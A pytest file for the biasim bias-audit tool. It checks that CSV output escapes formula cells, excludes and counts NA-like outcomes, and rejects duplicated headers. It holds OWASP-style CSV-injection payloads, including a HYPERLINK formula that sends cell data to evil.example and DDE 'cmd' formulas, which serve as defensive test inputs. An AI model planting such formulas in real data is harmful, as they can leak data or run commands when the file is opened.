"""Tables safe to open: formula-like cells escaped in every CSV biasim writes, NA-like outcomes
excluded and counted, a duplicated header refused."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pandas as pd
import pytest

from biasim.simulator.cli import app
from biasim.simulator.common.csvfiles import csv_safe, write_csv
from tests.conftest import write_study

# OWASP's CSV-injection examples and the starts it lists (=, +, -, @, tab, carriage return).
PAYLOADS = [
    '=HYPERLINK("http://evil.example?"&A1, "click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
PLAIN = ["-0.5", "+3e-2", "42", "a=b", "hello", ""]


def _cells(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def test_formula_cells_get_a_quote_and_read_back_as_written(tmp_path: Path) -> None:
    path = tmp_path / "t.csv"
    write_csv(path, pd.DataFrame({"text": PAYLOADS + PLAIN, "n": range(len(PAYLOADS + PLAIN))}))
    cells = [row[0] for row in _cells(path)[1:]]
    assert cells == ["'" + p for p in PAYLOADS] + PLAIN
    assert [csv_safe(p) for p in PLAIN] == PLAIN
    assert csv_safe(-1.5) == -1.5  # numbers are never touched


def test_results_and_tables_of_a_run_escape_a_formula_in_a_group_label(tmp_path: Path, cli) -> None:
    study = write_study(tmp_path / "s.yaml", agents=3)
    label = '=HYPERLINK("http://evil.example")'
    text = study.read_text().replace("non-binary", json.dumps(label))
    study.write_text(text)
    out = tmp_path / "run"
    result = cli.invoke(app, ["run", str(study), "--out", str(out)])
    assert result.exit_code == 0, result.output
    written = [out / "results.csv", *sorted((out / "tables").glob("*.csv"))]
    with_label = [p for p in written if any("'" + label in row for row in _cells(p))]
    assert out / "results.csv" in with_label and len(with_label) >= 2
    for path in written:
        assert not any(cell.startswith("=") for row in _cells(path) for cell in row), path
    # The parquet table keeps the value exactly.
    assert label in set(pd.read_parquet(out / "results.parquet")["gender"])


def _decisions(tmp_path: Path, rows: list[tuple[str, str]], header: str = "g,decision") -> Path:
    path = tmp_path / "d.csv"
    path.write_text(header + "\n" + "".join(f"{g},{d}\n" for g, d in rows))
    return path


def test_external_tables_escape_formulas(tmp_path: Path, cli) -> None:
    rows = [("=1+1", "accept"), ("=1+1", "reject"), ("b", "accept"), ("b", "reject")] * 5
    path = _decisions(tmp_path, rows)
    out = tmp_path / "tables"
    args = ["analyze", "--decisions", str(path), "--group-cols", "g", "--outcome-col", "decision"]
    result = cli.invoke(app, [*args, "--out", str(out), "--permutations", "50"])
    assert result.exit_code == 0, result.output
    cells = [c for p in out.glob("*.csv") for row in _cells(p) for c in row]
    assert "'=1+1" in cells and "=1+1" not in cells


@pytest.mark.parametrize("na", ["NA", "NaN", "null", "N/A", "None", " none "])
def test_na_like_outcomes_are_excluded_and_counted_not_negatives(tmp_path: Path, cli, na) -> None:
    rows = [("a", "accept")] * 6 + [("a", "reject")] * 4 + [("b", "accept")] * 3
    rows += [("b", "reject")] * 5 + [("b", na)] * 7
    path = _decisions(tmp_path, rows)
    args = ["analyze", "--decisions", str(path), "--group-cols", "g", "--outcome-col", "decision"]
    result = cli.invoke(app, [*args, "--json", "--permutations", "50"])
    assert result.exit_code == 0, result.output
    report = json.loads(result.stdout)
    assert report["negative"] == ["reject"]
    assert report["n_rows"] == 25 and report["n_excluded"] == 7
    missing = [r for r in report["exclusions"] if r["reason"] == "missing_outcome"]
    assert [(r["value"].strip(), r["n"]) for r in missing] == [(na.strip(), 7)]


def test_na_like_outcomes_in_an_audit_are_counted_as_without_outcome(tmp_path: Path, cli) -> None:
    path = tmp_path / "d.csv"
    rows = ["sex,race,decision"] + ["Female,White,accept", "Male,White,reject"] * 5
    rows += ["Female,Black,NA", "Male,Black,null", "Male,Black,accept"]
    path.write_text("\n".join(rows) + "\n")
    out = tmp_path / "audit"
    args = ["audit", str(path), "--outcome-col", "decision", "--positive", "accept"]
    result = cli.invoke(app, [*args, "--out", str(out)])
    assert result.exit_code == 0, result.output
    audit = json.loads((out / "audit.json").read_text())
    assert audit["n_missing_outcome"] == 2 and audit["n_assessed"] == 11


def test_a_duplicated_header_is_an_error(tmp_path: Path, cli) -> None:
    path = _decisions(
        tmp_path,
        [
            (
                "a",
                "accept",
            )
        ]
        * 3,
        header="g,g",
    )
    path.write_text("g,decision,g\na,accept,b\nb,reject,a\n")
    args = ["analyze", "--decisions", str(path), "--group-cols", "g", "--outcome-col", "decision"]
    result = cli.invoke(app, args)
    assert result.exit_code == 2
    assert f"{path}:1: g: column name is written twice in the header" in result.stderr
    audit = cli.invoke(app, ["audit", str(path), "--selected-col", "decision", "--out", "x"])
    assert audit.exit_code == 2 and "written twice" in audit.stderr


def test_every_csv_writer_goes_through_the_one_neutraliser() -> None:
    # `write_csv` (pandas) and the results writer (Arrow, `csv_safe_table`) are the only
    # places a CSV is written; any other `to_csv` or `csv.writer` would skip the rule.
    root = Path(__file__).resolve().parents[3]
    writers = {"simulator/common/csvfiles.py", "simulator/engine/results.py"}
    # A data file of a built-in study, written to a string from the repository's own CSVs.
    writers.add("scenarios/letter_facts.py")
    found = set()
    for folder in ("simulator", "analysis", "agents", "personas", "scenarios"):
        for path in (root / folder).rglob("*.py"):
            text = path.read_text(encoding="utf-8")
            if ".to_csv(" in text or "csv.writer(" in text or "CSVWriter(" in text:
                found.add(path.relative_to(root).as_posix())
    assert found <= writers, found - writers
    assert "simulator/common/csvfiles.py" in found
